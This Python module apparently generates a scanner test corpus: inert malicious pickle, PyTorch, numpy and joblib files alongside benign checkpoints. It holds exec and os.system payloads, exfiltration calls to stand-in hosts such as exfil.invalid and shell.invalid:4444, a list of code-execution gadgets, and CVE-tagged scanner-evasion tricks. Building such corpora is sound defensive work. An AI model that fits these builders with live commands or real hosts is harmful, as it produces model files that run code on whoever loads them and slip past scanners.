"""The generated pickle corpus: malicious cases for attacks.md A1-A3 and A4 rows 26-29/35-36, and
benign checkpoints. Used by tests/test_pickle*.py and bench/bench_pickle.py.

Every payload is inert if ever run: it writes a marker file in the corpus folder (or prints), and
every host is under .invalid. Cases are built with the real libraries (torch, numpy, joblib, dill,
py7zr) or as hand-written opcodes; nothing here loads a pickle.
"""
from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARKER_NAME = "PAYLOAD-RAN"


@dataclass(frozen=True)
class Case:
    name: str          # file name inside the corpus folder
    row: str           # attacks.md row, e.g. "A2#10"
    technique: str


# --- hand-written opcodes ----------------------------------------------------------------------

def _str(text: str, proto: int) -> bytes:
    raw = text.encode("utf-8")
    if proto >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    if proto >= 3 or proto >= 1:
        return b"X" + struct.pack("<I", len(raw)) + raw
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def _arg(value: object, proto: int) -> bytes:
    if isinstance(value, str):
        return _str(value, proto)
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value if proto >= 3 else \
            b"T" + struct.pack("<i", len(value)) + value
    if isinstance(value, (list, tuple)):
        body = b"(" + b"".join(_arg(v, proto) for v in value)
        return body + (b"l" if isinstance(value, list) else b"t")
    if value is None:
        return b"N"
    raise TypeError(value)


def glob(module: str, name: str, proto: int) -> bytes:
    if proto >= 4:
        return _str(module, proto) + _str(name, proto) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: object, proto: int = 2) -> bytes:
    """A pickle that calls module.name(*args) and returns the result."""
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + glob(module, name, proto) + b"(" + b"".join(_arg(a, proto) for a in args) + b"tR."


def marker_code(folder: Path) -> str:
    return f"open({str(folder / MARKER_NAME)!r}, 'w').write('ran')"


class ExecPayload:
    """Reduces to builtins.exec(<write the marker>)."""
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple:
        return (exec, (self.code,))


# --- containers --------------------------------------------------------------------------------

def torch_zip(members: dict[str, bytes], prefix: str = "archive") -> bytes:
    """A PyTorch-style zip (stored members under one prefix folder)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(f"{prefix}/{name}", data)
        zf.writestr(f"{prefix}/version", b"3\n")
    return buf.getvalue()


def _patch_flags(data: bytes, member: str, bits: int) -> bytes:
    out = bytearray(data)
    name = member.encode()
    # local headers: name length at +26, name at +30, flags at +6; central entries: +28, +46, +8
    for signature, nlen_at, name_at, flags_at in ((b"PK\x03\x04", 26, 30, 6), (b"PK\x01\x02", 28, 46, 8)):
        pos = 0
        while (pos := out.find(signature, pos)) >= 0:
            nlen = struct.unpack("<H", out[pos + nlen_at:pos + nlen_at + 2])[0]
            if out[pos + name_at:pos + name_at + nlen] == name:
                flags = struct.unpack("<H", out[pos + flags_at:pos + flags_at + 2])[0] | bits
                out[pos + flags_at:pos + flags_at + 2] = struct.pack("<H", flags)
            pos += 4
    return bytes(out)


def _patch_crc(data: bytes) -> bytes:
    out = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = out.find(sig)
        while pos >= 0:
            out[pos + off:pos + off + 4] = b"\xde\xad\xbe\xef"
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _patch_central_name(data: bytes, old: str, new: str) -> bytes:
    assert len(old) == len(new)
    out = bytearray(data)
    cd = out.find(b"PK\x01\x02")
    idx = out.find(old.encode(), cd)
    out[idx:idx + len(old)] = new.encode()
    return bytes(out)


def seven_zip(name: str, data: bytes) -> bytes:
    import py7zr
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(data, name)
    return buf.getvalue()


def legacy_torch(pickles: list[bytes], raw_tail: bytes = b"") -> bytes:
    return b"".join(pickles) + raw_tail


# --- the corpus --------------------------------------------------------------------------------

MALICIOUS: list[tuple[Case, Callable[[Path], bytes]]] = []
BENIGN: list[tuple[Case, Callable[[Path], bytes]]] = []


def malicious(name: str, row: str, technique: str) -> Callable[[Callable[[Path], bytes]], Callable[[Path], bytes]]:
    def register(fn: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
        MALICIOUS.append((Case(name, row, technique), fn))
        return fn
    return register


def benign(name: str, technique: str) -> Callable[[Callable[[Path], bytes]], Callable[[Path], bytes]]:
    def register(fn: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
        BENIGN.append((Case(name, "benign", technique), fn))
        return fn
    return register


def _torch_save(obj: object, zip_format: bool = True) -> bytes:
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=zip_format)
    return buf.getvalue()


def _exec_pickle(folder: Path, proto: int = 4) -> bytes:
    return pickle.dumps(ExecPayload(marker_code(folder)), protocol=proto)


@malicious("a1_torch_exec.bin", "A1#1", "torch.save of an object reducing to builtins.exec")
def _a1_torch_exec(folder: Path) -> bytes:
    return _torch_save({"w": ExecPayload(marker_code(folder))})


@malicious("a1_runpy.pkl", "A1#1", "runpy._run_code payload")
def _a1_runpy(folder: Path) -> bytes:
    return call("runpy", "_run_code", marker_code(folder), {} if False else None, proto=2)


@malicious("a2_nullifai.7z", "A1#2", "broken pickle after the payload, inside 7z")
def _a1_nullifai_7z(folder: Path) -> bytes:
    broken = _exec_pickle(folder, 2)[:-1] + b"\xff"
    return seven_zip("archive/data.pkl", broken)


@malicious("a1_nullifai_broken.pkl", "A1#2", "broken pickle after the payload (raw)")
def _a1_nullifai_raw(folder: Path) -> bytes:
    return _exec_pickle(folder, 2)[:-1] + b"\xff"


@malicious("a1_sleepy.pt", "A1#3", "state dict plus a call that patches the model class in place")
def _a1_sleepy(folder: Path) -> bytes:
    import torch
    state = torch.nn.Linear(2, 2).state_dict()
    body = pickle.dumps(dict(state.items()), protocol=2)[:-1]   # keep the dict on the stack, drop STOP
    patch = glob("builtins", "setattr", 2) + b"(" + glob("torch.nn", "Linear", 2) + _arg("forward", 2) + \
        glob("builtins", "print", 2) + b"tR0"
    return body + patch + b"."


@malicious("a1_nested_loads.pkl", "A1#4", "pickle.loads of an embedded second pickle")
def _a1_nested(folder: Path) -> bytes:
    return call("pickle", "loads", _exec_pickle(folder, 2), proto=3)


@malicious("a1_partial_torch_load.pkl", "A1#4", "functools.partial(torch.load, other file, weights_only=False)")
def _a1_partial(folder: Path) -> bytes:
    inner = glob("functools", "partial", 2) + b"(" + glob("torch", "load", 2) + _arg("other.bin", 2) + b"tR"
    return b"\x80\x02" + inner + b")R."


@malicious("a1_multi_stream.pkl", "A1#5", "benign pickle followed by a malicious one")
def _a1_multi(folder: Path) -> bytes:
    return pickle.dumps([1, 2, 3], protocol=2) + _exec_pickle(folder, 2)


@malicious("a1_legacy_magic_eval.pt", "A1#5", "legacy PyTorch: magic number via eval, payload in pickle #5")
def _a1_legacy(folder: Path) -> bytes:
    magic = call("builtins", "eval", "0x1950a86a20f9469cfc6c", proto=2)
    return legacy_torch([magic, pickle.dumps(1001, protocol=2), pickle.dumps({"little_endian": True}, protocol=2),
                         pickle.dumps({}, protocol=2), _exec_pickle(folder, 2)])


@malicious("a1_dns_exfil.npy", "A1#6", "np.save object array reducing to ssl.get_server_certificate")
def _a1_npy_exfil(folder: Path) -> bytes:
    import numpy as np
    payload = call("ssl", "get_server_certificate", ["exfil.dns-logger.invalid", 443], proto=3)
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, header)
    return buf.getvalue() + payload


@malicious("a1_urlopen.pkl", "A1#6", "urllib.request.urlopen exfiltration")
def _a1_urlopen(folder: Path) -> bytes:
    return call("urllib.request", "urlopen", "http://exfil.invalid/x", proto=4)


@malicious("a1_socket.pkl", "A1#6", "socket.create_connection")
def _a1_socket(folder: Path) -> bytes:
    return call("socket", "create_connection", ["shell.invalid", 4444], proto=2)


@malicious("a2_pip_main.pkl", "A2#8", "pip.main install (CVE-2025-1716)")
def _a2_pip(folder: Path) -> bytes:
    return call("pip", "main", ["install", "evil-pkg.invalid", "-q"], proto=4)


@malicious("a2_wrong_member_ext.zip", "A2#9", "pickle in a zip under a non-pickle name (CVE-2025-1889)")
def _a2_wrong_ext(folder: Path) -> bytes:
    return torch_zip({"data.txt": _exec_pickle(folder, 2)})


@malicious("a2_name_mismatch.pt", "A2#10", "zip local/central file name mismatch (CVE-2025-1944)")
def _a2_name_mismatch(folder: Path) -> bytes:
    return _patch_central_name(torch_zip({"data.pkl": _exec_pickle(folder, 2)}), "archive/data.pkl",
                               "archive/datap.kl")


@malicious("a2_flag_0x1.pt", "A2#11", "zip flag bit 0x1 (CVE-2025-1945)")
def _a2_flag1(folder: Path) -> bytes:
    return _patch_flags(torch_zip({"data.pkl": _exec_pickle(folder, 2)}), "archive/data.pkl", 0x1)


@malicious("a2_flag_0x20.pt", "A2#11", "zip flag bit 0x20 (CVE-2025-1945)")
def _a2_flag20(folder: Path) -> bytes:
    return _patch_flags(torch_zip({"data.pkl": _exec_pickle(folder, 2)}), "archive/data.pkl", 0x20)


@malicious("a2_flag_0x40.pt", "A2#11", "zip flag bit 0x40 (CVE-2025-1945)")
def _a2_flag40(folder: Path) -> bytes:
    return _patch_flags(torch_zip({"data.pkl": _exec_pickle(folder, 2)}), "archive/data.pkl", 0x40)


@malicious("a2_raw_pickle.bin", "A2#12", "raw pickle with a PyTorch extension (CVE-2025-10155)")
def _a2_ext_confusion(folder: Path) -> bytes:
    return _exec_pickle(folder, 4)


@malicious("a2_crc.pt", "A2#13", "zip CRC mismatch (CVE-2025-10156)")
def _a2_crc(folder: Path) -> bytes:
    return _patch_crc(torch_zip({"data.pkl": _exec_pickle(folder, 2)}))


@malicious("a2_asyncio_submodule.pkl", "A2#14", "asyncio.unix_events submodule gadget (CVE-2025-10157)")
def _a2_asyncio(folder: Path) -> bytes:
    return call("asyncio.unix_events", "_UnixSubprocessTransport._start", "echo", True, proto=4)


GADGETS = [
    ("timeit", "timeit"), ("cProfile", "run"), ("profile", "run"), ("trace", "Trace.run"), ("bdb", "Bdb.run"),
    ("pdb", "run"), ("code", "InteractiveInterpreter.runcode"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("idlelib.run", "Executive.runcode"), ("lib2to3.pgen2.grammar", "Grammar.loads"), ("ensurepip", "_run_pip"),
    ("venv", "create"), ("pty", "spawn"), ("ctypes", "CDLL"), ("pydoc", "pipepager"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring"),
    ("distutils.file_util", "write_file"), ("uuid", "_get_command_stdout"), ("_osx_support", "_read_output"),
    ("_aix_support", "_read_cmd_output"), ("imaplib", "IMAP4_stream"), ("_pyrepl.pager", "pipe_pager"),
    ("test.support.script_helper", "assert_python_ok"), ("io", "FileIO"), ("logging", "FileHandler"),
    ("torch.utils.collect_env", "run"), ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("torch._inductor.codecache", "compile_file"),
    ("types", "CodeType"),
]


def _gadget_builder(module: str, name: str) -> Callable[[Path], bytes]:
    def build(folder: Path) -> bytes:
        return call(module, name, marker_code(folder), proto=4 if "." in name else 2)
    return build


for _module, _name in GADGETS:
    malicious(f"a2_gadget_{_module}.{_name}.pkl".replace("/", "_"), "A2#15",
              f"{_module}.{_name} gadget")(_gadget_builder(_module, _name))


@malicious("a2_resolve_name.pkl", "A2#16", "pkgutil.resolve_name('os:system') then call it")
def _a2_resolve(folder: Path) -> bytes:
    return b"\x80\x04" + glob("pkgutil", "resolve_name", 4) + _str("os:system", 4) + b"\x85R" + \
        _str("echo x", 4) + b"\x85R."


@malicious("a2_memo_stack_global.pkl", "A2#17a", "STACK_GLOBAL names fetched from memo slots")
def _a2_memo(folder: Path) -> bytes:
    return (b"\x80\x04" + _str("builtins", 4) + b"\x94" + b"0" + _str("exec", 4) + b"\x94" + b"0"
            + b"h\x00h\x01\x93" + _str(marker_code(folder), 4) + b"\x85R.")


@malicious("a2_string_stack_global.pkl", "A2#17b", "protocol-0 STRING opcodes feeding STACK_GLOBAL")
def _a2_string(folder: Path) -> bytes:
    return b"\x80\x04S'os'\nS'system'\n\x93" + _str("echo x", 4) + b"\x85R."


@malicious("a2_memo_keyerror.pkl", "A2#17c", "payload then a GET of a memo key never stored")
def _a2_keyerror(folder: Path) -> bytes:
    return call("os", "system", "echo x", proto=2)[:-1] + b"h\x09."


@malicious("a2_memo_type_confusion.pkl", "A2#17c", "STACK_GLOBAL fed an int from the memo")
def _a2_type_confusion(folder: Path) -> bytes:
    return (b"\x80\x04" + call("os", "system", "echo x", proto=4)[2:-1] + b"0" + b"K\x01\x94" + _str("x", 4)
            + b"h\x00\x8c\x01x\x93.")


@malicious("a2_inst.pkl", "A2#17d", "INST opcode instead of REDUCE")
def _a2_inst(folder: Path) -> bytes:
    return b"(" + _arg("echo x", 0) + b"ios\nsystem\n."


@malicious("a2_obj.pkl", "A2#17d", "OBJ opcode instead of REDUCE")
def _a2_obj(folder: Path) -> bytes:
    return b"\x80\x02(" + glob("subprocess", "getoutput", 2) + _arg("echo x", 2) + b"o."


@malicious("a2_bad_utf8.pkl", "A2#17e", "invalid UTF-8 after GLOBAL, after a payload")
def _a2_bad_utf8(folder: Path) -> bytes:
    return call("os", "system", "echo x", proto=2)[:-1] + b"0cmod\n\xf8\n."


@malicious("a3_numpy_builtins_build.pkl", "A3#19", "numpy.size + numpy.__builtins__ + BUILD on a global")
def _a3_numpy_build(folder: Path) -> bytes:
    return (b"\x80\x04" + glob("numpy", "size", 4) + b"}" + _str("__call__", 4) + glob("numpy", "__builtins__", 4)
            + b"sb0" + glob("numpy", "size", 4) + _str("1+1", 4) + b"\x85R.")


@malicious("a3_importlib_getattr_join.pkl", "A3#20", "import_module('builtins') + getattr + ''.join -> computed call")
def _a3_join(folder: Path) -> bytes:
    module = glob("importlib", "import_module", 4) + _str("builtins", 4) + b"\x85R"
    join = glob("builtins", "getattr", 4) + _str("", 4) + _str("join", 4) + b"\x86R"
    name = join + b"(" + _str("e", 4) + _str("x", 4) + _str("ec", 4) + b"l\x85R"
    func = glob("builtins", "getattr", 4) + module + name + b"\x86R"
    return b"\x80\x04" + func + _str(marker_code(folder), 4) + b"\x85R."


@malicious("a3_collect_env.pkl", "A3#21", "torch.utils.collect_env.run")
def _a3_collect(folder: Path) -> bytes:
    return call("torch.utils.collect_env", "run", "echo x", proto=2)


@malicious("a3_spawnv_passfds.pkl", "A3#21", "multiprocessing.util.spawnv_passfds")
def _a3_spawnv(folder: Path) -> bytes:
    return call("multiprocessing.util", "spawnv_passfds", "/bin/echo", ["echo", "x"], [], proto=2)


@malicious("a3_mlflow.pkl", "A3#21", "mlflow.projects.backend.local._run_entry_point")
def _a3_mlflow(folder: Path) -> bytes:
    return call("mlflow.projects.backend.local", "_run_entry_point", "echo x", ".", "id", {} if False else None,
                proto=2)


@malicious("a3_pandas_read_csv.pkl", "A3#21", "pandas read_csv of a URL (exfiltration)")
def _a3_pandas(folder: Path) -> bytes:
    return call("pandas.io.parsers.readers", "read_csv", "http://exfil.invalid/x.csv", proto=2)


@malicious("a3_mailcap.pkl", "A3#22", "mailcap.findmatch")
def _a3_mailcap(folder: Path) -> bytes:
    return call("mailcap", "findmatch", None, "text/plain", proto=2)


@malicious("a3_dill_lambda.weights", "A3#23", "dill-serialized function under an unknown extension")
def _a3_dill(folder: Path) -> bytes:
    import dill
    code = marker_code(folder)
    return dill.dumps(lambda: exec(code), recurse=True)


@malicious("a3_pop_hidden_call.pkl", "A3#25", "a call whose result is POPped (fickling AST gap)")
def _a3_pop(folder: Path) -> bytes:
    return b"\x80\x02" + glob("os", "system", 2) + _arg("echo x", 2) + b"\x85R0" + _arg([1, 2], 2) + b"."


@malicious("a4_torchscript.pt", "A4#26", "TorchScript archive (torch.jit.load ignores weights_only)")
def _a4_torchscript(folder: Path) -> bytes:
    import torch
    module = torch.jit.script(torch.nn.Linear(2, 2))
    buf = io.BytesIO()
    torch.jit.save(module, buf)
    return buf.getvalue()


@malicious("a4_storage_metadata.pt", "A4#27", "crafted storage metadata: storage type is not a storage")
def _a4_storage(folder: Path) -> bytes:
    pid = b"(" + _arg("storage", 2) + glob("builtins", "eval", 2) + _arg("0", 2) + _arg("cpu", 2) + \
        b"J" + struct.pack("<i", -1) + b"tQ"
    body = b"\x80\x02" + glob("torch._utils", "_rebuild_tensor_v2", 2) + b"(" + pid + b"K\x00(J\xff\xff\xff\x7ft" \
        + b"(K\x01t\x89" + glob("collections", "OrderedDict", 2) + b")RtR."
    return torch_zip({"data.pkl": body})


@malicious("a4_fallback_global.pt", "A4#28", "global outside weights_only's allow-list forcing the unsafe retry")
def _a4_fallback(folder: Path) -> bytes:
    import torch
    return _torch_save({"w": torch.zeros(2), "cfg": ExecPayload(marker_code(folder))})


@malicious("a4_torchscript_constants.pt", "A4#29", "TorchScript zip with code/ and constants.pkl")
def _a4_ts2(folder: Path) -> bytes:
    import torch

    class WithConstant(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.register_buffer("table", torch.arange(3.0))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.table.sum()
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(WithConstant()), buf)
    return buf.getvalue()


@malicious("a4_npz_object.npz", "A4#35", "npz whose member is an object array with a payload")
def _a4_npz(folder: Path) -> bytes:
    npy = _a1_npy_exfil(folder)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("arr_0.npy", npy)
    return buf.getvalue()


@malicious("a4_joblib_payload.joblib", "A4#36", "joblib.dump of an object with a payload")
def _a4_joblib(folder: Path) -> bytes:
    return _joblib_with_payload(folder, None)


def _joblib_with_payload(folder: Path, compress: tuple[str, int] | None) -> bytes:
    """joblib.dump of an estimator-like dict whose extra entry carries the payload."""
    import joblib
    import numpy as np
    path = folder / f".tmp_joblib_{compress[0] if compress else 'raw'}"
    joblib.dump({"coef": np.arange(4.0), "hook": ExecPayload(marker_code(folder))}, path,
                compress=compress or 0)
    data = path.read_bytes()
    path.unlink()
    return data


@malicious("a4_joblib_zlib.joblib", "A4#36", "compressed joblib (zlib) with a payload")
def _a4_joblib_z(folder: Path) -> bytes:
    return _joblib_with_payload(folder, ("zlib", 3))


@malicious("a4_joblib_xz.joblib", "A4#36", "compressed joblib (xz) with a payload")
def _a4_joblib_xz(folder: Path) -> bytes:
    return _joblib_with_payload(folder, ("xz", 3))


@malicious("a4_joblib_differential.pkl", "A4#36", "joblib array bytes that plain pickle.load runs as opcodes")
def _a4_joblib_differential(folder: Path) -> bytes:
    payload = b"0" + glob("os", "system", 2) + b"(" + _arg("echo x", 2) + b"tR."
    dtype = glob("numpy", "dtype", 2) + b"(" + _arg("u1", 2) + b"\x89\x88tR" + \
        b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    state = (b"}(" + _arg("subclass", 2) + glob("numpy", "ndarray", 2) + _arg("shape", 2)
             + b"J" + struct.pack("<i", len(payload)) + b"\x85" + _arg("order", 2) + _arg("C", 2)
             + _arg("dtype", 2) + dtype + _arg("allow_mmap", 2) + b"\x89u")
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper", 2) + b")\x81" + state + b"b"
    return b"\x80\x02" + wrapper + payload + b"."


@malicious("x_tar_gz_payload.tar.gz", "C", "payload pickle inside tar.gz")
def _x_targz(folder: Path) -> bytes:
    buf = io.BytesIO()
    payload = _exec_pickle(folder, 2)
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("model/data.pkl")
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


@malicious("x_base64_nested.pkl", "A1#4", "base64 of a pickle passed to a nested loader via codecs")
def _x_b64(folder: Path) -> bytes:
    import base64
    inner = base64.b64encode(_exec_pickle(folder, 2)).decode()
    return call("codecs", "decode", inner, "base64", proto=2)


@malicious("x_zip_traversal.zip", "C", "zip member name with a parent-directory component")
def _x_traversal(folder: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("../../escape.pkl", pickle.dumps([1], protocol=2))
    return buf.getvalue()


@malicious("x_zip_bomb.zip", "C", "zip bomb (highly compressed member)")
def _x_bomb(folder: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.bin", b"\x00" * (20 * 1024 * 1024))
    return buf.getvalue()


# --- benign ------------------------------------------------------------------------------------

def _small_model() -> object:
    import torch
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.ReLU(),
                               torch.nn.Flatten(), torch.nn.Linear(8, 3))


@benign("ok_state_dict_zip.bin", "torch.save(state_dict) zip format")
def _ok_zip(folder: Path) -> bytes:
    return _torch_save(_small_model().state_dict())  # type: ignore[attr-defined]


@benign("ok_state_dict_legacy.pt", "torch.save(state_dict) legacy format")
def _ok_legacy(folder: Path) -> bytes:
    return _torch_save(_small_model().state_dict(), zip_format=False)  # type: ignore[attr-defined]


@benign("ok_checkpoint_mixed.pth", "torch checkpoint with optimizer state, ints, strings, numpy")
def _ok_ckpt(folder: Path) -> bytes:
    import torch
    model = _small_model()
    # the shape of an optimizer's state_dict (torch.optim itself is slow to import)
    optimizer = {"state": {0: {"step": torch.tensor(3.0), "exp_avg": torch.zeros(2)}},
                 "param_groups": [{"lr": 0.1, "betas": (0.9, 0.999), "params": [0, 1]}]}
    return _torch_save({"model": model.state_dict(), "optimizer": optimizer, "epoch": 3,   # type: ignore[attr-defined]
                        "name": "tiny", "shape": torch.Size([2, 3]), "half": torch.ones(2, dtype=torch.float16),
                        "param": torch.nn.Parameter(torch.ones(2)), "int8": torch.arange(4, dtype=torch.int8)})


@benign("ok_torch_exotic.pt", "torch sparse/quantized/float8/uint16 tensors, numpy Generator, Parameter")
def _ok_torch_exotic(folder: Path) -> bytes:
    import numpy as np
    import torch
    return _torch_save({
        "sparse": torch.eye(3).to_sparse(), "csr": torch.eye(3).to_sparse_csr(),
        "quant": torch.quantize_per_tensor(torch.rand(4), 0.1, 10, torch.quint8),
        "quant_ch": torch.quantize_per_channel(torch.rand(2, 3), torch.tensor([0.1, 0.2]), torch.tensor([1, 2]), 0,
                                               torch.qint8),
        "u16": torch.ones(2, dtype=torch.uint16), "f8": torch.ones(2, dtype=torch.float8_e4m3fn),
        "bf16": torch.ones(2, dtype=torch.bfloat16), "c64": torch.ones(2, dtype=torch.complex64),
        "meta": torch.empty(3, device="meta"), "param": torch.nn.Parameter(torch.ones(2)),
        "cl": torch.rand(1, 3, 2, 2).to(memory_format=torch.channels_last), "rng": torch.get_rng_state(),
        "np_rng": np.random.default_rng(0), "np_legacy_rng": np.random.RandomState(0),
        "np_scalar": np.float32(1.5), "np_int": np.int64(3),
    })


@benign("ok_sklearn_zoo.joblib", "scikit-learn estimators with Cython state (trees, KD-tree, binning, encoders)")
def _ok_sklearn_zoo(folder: Path) -> bytes:
    import numpy as np
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.preprocessing import OneHotEncoder
    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    y = (x[:, 0] > 0).astype(int)
    zoo = [GradientBoostingClassifier(n_estimators=2).fit(x, y), HistGradientBoostingClassifier(max_iter=2).fit(x, y),
           KNeighborsClassifier().fit(x, y), OneHotEncoder().fit([["a"], ["b"]]),
           TfidfVectorizer().fit(["apple banana cherry", "banana cherry dates"])]
    return _joblib_bytes(folder, zoo)


@benign("ok_array.npy", "numpy numeric array")
def _ok_npy(folder: Path) -> bytes:
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.float32).reshape(3, 4))
    return buf.getvalue()


@benign("ok_arrays.npz", "numpy npz (compressed)")
def _ok_npz(folder: Path) -> bytes:
    import numpy as np
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.ones(5), b=np.arange(3))
    return buf.getvalue()


@benign("ok_object_strings.npy", "numpy object array of strings (allow_pickle)")
def _ok_npy_obj(folder: Path) -> bytes:
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, np.array(["a", "bc", None], dtype=object), allow_pickle=True)
    return buf.getvalue()


def _joblib_bytes(folder: Path, obj: object, compress: object = 0) -> bytes:
    import joblib
    path = folder / f".tmp_ok_{os.getpid()}"
    joblib.dump(obj, path, compress=compress)
    data = path.read_bytes()
    path.unlink()
    return data


def _sklearn_model() -> object:
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    y = (x[:, 0] > 0).astype(int)
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)


@benign("ok_sklearn.joblib", "scikit-learn pipeline via joblib")
def _ok_sklearn(folder: Path) -> bytes:
    return _joblib_bytes(folder, _sklearn_model())


@benign("ok_sklearn_zlib.joblib", "scikit-learn pipeline via joblib, zlib-compressed")
def _ok_sklearn_z(folder: Path) -> bytes:
    return _joblib_bytes(folder, _sklearn_model(), compress=3)


@benign("ok_sklearn_gzip.pkl.gz", "scikit-learn pipeline via joblib, gzip-compressed")
def _ok_sklearn_gz(folder: Path) -> bytes:
    return _joblib_bytes(folder, _sklearn_model(), compress=("gzip", 3))


@benign("ok_plain_data.pkl", "plain Python data in every protocol")
def _ok_plain(folder: Path) -> bytes:
    import collections
    import datetime
    data = {"a": [1, 2.5, "x", b"bytes", None, True], "t": (1, 2), "s": {1, 2}, "fs": frozenset({3}),
            "od": collections.OrderedDict(k=1), "when": datetime.datetime(2024, 1, 1), "big": 2 ** 80,
            "c": complex(1, 2)}
    return b"".join(pickle.dumps(data, protocol=p) for p in range(6))


@benign("ok_dill_data.dill", "dill of plain data")
def _ok_dill(folder: Path) -> bytes:
    import dill
    return dill.dumps({"weights": [0.1, 0.2], "name": "m"})


@benign("ok_state_dict.tar.gz", "state dict inside a tar.gz")
def _ok_targz(folder: Path) -> bytes:
    payload = _ok_zip(folder)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("model/pytorch_model.bin")
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


@benign("ok_state_dict.7z", "state dict inside 7z")
def _ok_7z(folder: Path) -> bytes:
    return seven_zip("pytorch_model.bin", _ok_zip(folder))


def build(folder: Path, which: str = "all") -> dict[str, Case]:
    """Write the corpus into folder; return file name -> case."""
    folder.mkdir(parents=True, exist_ok=True)
    chosen = (MALICIOUS if which in ("all", "malicious") else []) + (BENIGN if which in ("all", "benign") else [])
    written = {}
    for case, make in chosen:
        (folder / case.name).write_bytes(make(folder))
        written[case.name] = case
    return written


def zlib_pickle(data: bytes) -> bytes:
    return zlib.compress(data)
